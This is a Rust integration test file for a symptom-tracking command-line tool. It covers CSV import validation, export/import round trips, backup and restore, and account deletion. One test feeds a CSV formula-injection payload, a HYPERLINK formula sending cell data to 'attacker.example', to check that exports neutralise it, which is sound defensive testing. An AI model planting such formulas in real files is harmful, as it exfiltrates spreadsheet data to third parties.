//! Import, export, backup, restore and account deletion through the real `tonus` binary, on
//! SQLite files and (when `TONUS_TEST_POSTGRES_URL` is set) PostgreSQL schemas.

use std::path::Path;

use serde_json::Value;

mod common;

use common::*;

fn ok(db: &Db, args: &[&str]) -> String {
    let out = tonus(db, args);
    assert!(
        out.status.success(),
        "{args:?} failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

/// The patients of an archive export, without the parts that differ between exports.
fn archive_patients(db: &Db, patient: &str) -> Value {
    let text = ok(db, &["--patient", patient, "export", "archive", "-q"]);
    let v: Value = serde_json::from_str(&text).unwrap();
    v["patients"].clone()
}

fn demo(db: &Db) {
    ok(
        db,
        &["demo", "--days", "40", "--seed", "9", "--tz", "Europe/Paris", "-q"],
    );
}

#[test]
fn bad_csv_rows_are_all_listed_and_nothing_is_written() {
    let db = sqlite_db();
    ok(&db, &["patient", "add", "me", "--tz", "Europe/Paris"]);
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("episodes.csv");
    std::fs::write(
        &file,
        "started_at,kind,regions,pain\n\
         2026-01-10 08:00,twitch,left-calf,3\n\
         2026-01-10 09:00,cramp,left-calf,12\n\
         2026-01-10 10:00,jerk,left-calf,1\n\
         2026-01-10 11:00,wobble,,\n",
    )
    .unwrap();
    let f = file.to_str().unwrap();
    let out = tonus(&db, &["import", "csv", f]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains(&format!("{f}:line 3: pain must be an integer 0–10, got 12")),
        "{err}"
    );
    assert!(err.contains(&format!("{f}:line 5: kind must be one of")), "{err}");
    assert!(err.contains("nothing was written"), "{err}");
    assert_eq!(ok(&db, &["list", "--json", "--from", "2026-01-01"]).trim(), "[]");

    let out = tonus(&db, &["import", "csv", "--skip-invalid", "--json", f]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["written"], 2);
    let lines: Vec<i64> = report["skipped"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["line"].as_i64().unwrap())
        .collect();
    assert_eq!(lines, vec![3, 5]);
    let listed: Value = serde_json::from_str(&ok(&db, &["list", "--json", "--from", "2026-01-01"])).unwrap();
    assert_eq!(listed.as_array().unwrap().len(), 2);
}

#[test]
fn a_side_effect_blaming_an_unknown_treatment_is_a_row_error() {
    let db = sqlite_db();
    ok(&db, &["patient", "add", "me", "--tz", "Europe/Paris"]);
    let dir = tempfile::tempdir().unwrap();
    let treatments = dir.path().join("treatments.csv");
    std::fs::write(&treatments, "treatment,category\nBaclofen,drug\n").unwrap();
    let effects = dir.path().join("side-effects.csv");
    std::fs::write(
        &effects,
        "at,effect,severity,suspected_treatment\n\
         2026-01-10 08:00,drowsiness,moderate,BACLOFEN\n\
         2026-01-10 09:00,dizziness,mild,Tizanidine\n\
         2026-01-10 10:00,nausea,mild,\n",
    )
    .unwrap();
    let (t, f) = (treatments.to_str().unwrap(), effects.to_str().unwrap());
    // Named before the treatments file: the import still reads treatments first.
    let out = tonus(&db, &["import", "csv", f, t]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains(&format!(
            "{f}:line 3: suspected_treatment must be the name of one of the patient's treatments"
        )),
        "{err}"
    );
    assert!(err.contains("nothing was written"), "{err}");

    let out = tonus(&db, &["import", "csv", "--skip-invalid", "--json", f, t]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let patients = archive_patients(&db, "me");
    let effects = patients[0]["side_effects"].as_array().unwrap();
    assert_eq!(effects.len(), 2, "{effects:?}");
    // Resolved to the stored treatment, in its own spelling.
    assert_eq!(effects[0]["suspected_treatment"], "Baclofen");
    assert!(effects[1]["suspected_treatment"].is_null());
}

fn csv_round_trip(src: &Db, dst: &Db) {
    demo(src);
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("csv");
    ok(src, &["export", "csv", "--out-dir", out.to_str().unwrap(), "-q"]);
    ok(dst, &["patient", "add", "demo", "--tz", "Europe/Paris"]);
    let mut files: Vec<String> = std::fs::read_dir(&out)
        .unwrap()
        .map(|e| e.unwrap().path().display().to_string())
        .collect();
    files.sort(); // Any order: the importer puts treatments before doses.
    let mut args = vec!["import", "csv", "-q"];
    args.extend(files.iter().map(String::as_str));
    ok(dst, &args);
    let patients = archive_patients(src, "demo");
    // The demo has side effects, some blaming a treatment: the comparison covers them.
    let effects = patients[0]["side_effects"].as_array().unwrap();
    assert!(
        effects.iter().any(|s| s["suspected_treatment"].is_string()),
        "{effects:?}"
    );
    assert_eq!(patients, archive_patients(dst, "demo"));
}

#[test]
fn csv_export_then_import_gives_the_same_records() {
    csv_round_trip(&sqlite_db(), &sqlite_db());
}

#[tokio::test]
async fn csv_round_trip_on_postgres() {
    if let Some(pg) = postgres_db("csv").await {
        tokio::task::spawn_blocking(move || csv_round_trip(&pg, &sqlite_db()))
            .await
            .unwrap();
    }
}

fn backup_and_restore(src: &Db, format: &str, dir: &Path) {
    demo(src);
    let file = dir.join(format!("backup.{format}"));
    let f = file.to_str().unwrap();
    ok(src, &["backup", "--out", f, "--format", format]);
    // Never overwrite a backup.
    assert_eq!(
        tonus(src, &["backup", "--out", f, "--format", format]).status.code(),
        Some(2)
    );
    let dst = sqlite_db();
    // `demo` made a web account: an SQLite backup holds it, and restore, which copies
    // patients and their records only, refuses to drop it silently.
    let mut restore = vec!["restore", "--from", f];
    if format == "sqlite" {
        let refused = tonus(&dst, &restore);
        let err = String::from_utf8_lossy(&refused.stderr);
        assert_eq!(refused.status.code(), Some(2), "{err}");
        assert!(
            err.contains("web accounts (1)") && err.contains("Nothing was restored"),
            "{err}"
        );
        assert!(err.contains("--records-only"), "{err}");
        assert_eq!(ok(&dst, &["patient", "list", "--json"]).trim(), "[]");
        restore.push("--records-only");
        let done = ok(&dst, &[&restore[..], &["--json"]].concat());
        let report: Value = serde_json::from_str(&done).unwrap();
        assert!(
            report["not_restored"]
                .as_array()
                .unwrap()
                .iter()
                .any(|n| n["what"] == "web accounts" && n["count"] == 1),
            "{report}"
        );
    } else {
        ok(&dst, &restore);
    }
    assert_eq!(archive_patients(src, "demo"), archive_patients(&dst, "demo"));
    // Restoring over an existing patient needs --replace.
    let again = tonus(&dst, &restore);
    assert_eq!(
        again.status.code(),
        Some(2),
        "{}",
        String::from_utf8_lossy(&again.stderr)
    );
    ok(&dst, &["log", "spasm", "--kind", "cramp", "--patient", "demo"]);
    ok(&dst, &[&restore[..], &["--replace"]].concat());
    assert_eq!(archive_patients(src, "demo"), archive_patients(&dst, "demo"));
}

#[test]
fn sqlite_backup_restores_every_record() {
    let dir = tempfile::tempdir().unwrap();
    backup_and_restore(&sqlite_db(), "sqlite", dir.path());
}

#[test]
fn archive_backup_restores_every_record() {
    let dir = tempfile::tempdir().unwrap();
    backup_and_restore(&sqlite_db(), "archive", dir.path());
}

#[tokio::test]
async fn postgres_backs_up_to_an_archive() {
    if let Some(pg) = postgres_db("backup").await {
        tokio::task::spawn_blocking(move || {
            let dir = tempfile::tempdir().unwrap();
            let out = tonus(
                &pg,
                &[
                    "backup",
                    "--out",
                    dir.path().join("x.db").to_str().unwrap(),
                    "--format",
                    "sqlite",
                ],
            );
            assert_eq!(out.status.code(), Some(2), "an SQLite copy of PostgreSQL is refused");
            backup_and_restore(&pg, "archive", dir.path());
        })
        .await
        .unwrap();
    }
}

#[test]
fn a_patient_can_delete_their_account() {
    let db = sqlite_db();
    demo(&db);
    ok(&db, &["patient", "add", "other", "--tz", "UTC"]);
    let refused = tonus(&db, &["patient", "delete", "demo"]);
    assert_eq!(
        refused.status.code(),
        Some(2),
        "without --yes and no terminal, nothing is deleted"
    );
    assert!(String::from_utf8_lossy(&refused.stderr).contains("--yes"));
    ok(&db, &["patient", "delete", "demo", "--yes"]);
    let patients: Value = serde_json::from_str(&ok(&db, &["patient", "list", "--json"])).unwrap();
    let names: Vec<&str> = patients
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["handle"].as_str().unwrap())
        .collect();
    assert_eq!(names, vec!["other"]);
}

#[test]
fn csv_export_neutralises_formulas_and_excel_style_round_trips() {
    let src = sqlite_db();
    ok(&src, &["patient", "add", "me", "--tz", "Europe/Paris"]);
    let notes = [
        "=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")",
        "'=already marked",
        "-2 after stretching",
        "Crampe à la cuisse, ça tire — 足がつる",
        "'tis the season",
    ];
    for (i, note) in notes.iter().enumerate() {
        let at = format!("2026-01-1{i} 08:00");
        ok(
            &src,
            &["log", "spasm", "--kind", "cramp", "--at", &at, "--note", note, "-q"],
        );
    }
    let dir = tempfile::tempdir().unwrap();
    for excel in [false, true] {
        let out = dir.path().join(format!("excel-{excel}"));
        let mut args = vec!["export", "csv", "--out-dir", out.to_str().unwrap(), "-q"];
        if excel {
            args.push("--excel");
        }
        ok(&src, &args);
        let bytes = std::fs::read(out.join("episodes.csv")).unwrap();
        assert_eq!(bytes.starts_with("\u{feff}".as_bytes()), excel);
        let text = String::from_utf8(bytes).unwrap();
        assert_eq!(text.contains("\r\n"), excel, "{text}");
        // No cell starts a formula: every cell of the notes column is marked text.
        let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        let col = reader.headers().unwrap().iter().position(|h| h == "notes").unwrap();
        let cells: Vec<String> = reader.records().map(|r| r.unwrap()[col].to_string()).collect();
        assert!(
            cells.contains(&"'=HYPERLINK(\"http://attacker.example/?\"&A1,\"click\")".to_string()),
            "{cells:?}"
        );
        assert!(cells.contains(&"''=already marked".to_string()), "{cells:?}");
        assert!(cells.contains(&"'-2 after stretching".to_string()), "{cells:?}");
        assert!(cells.contains(&"'tis the season".to_string()), "{cells:?}");
        for c in &cells {
            assert!(!c.starts_with(['=', '+', '-', '@']), "live formula cell {c:?}");
        }

        let dst = sqlite_db();
        ok(&dst, &["patient", "add", "me", "--tz", "Europe/Paris"]);
        ok(
            &dst,
            &["import", "csv", "-q", out.join("episodes.csv").to_str().unwrap()],
        );
        assert_eq!(
            archive_patients(&src, "me"),
            archive_patients(&dst, "me"),
            "excel={excel}"
        );
    }
}
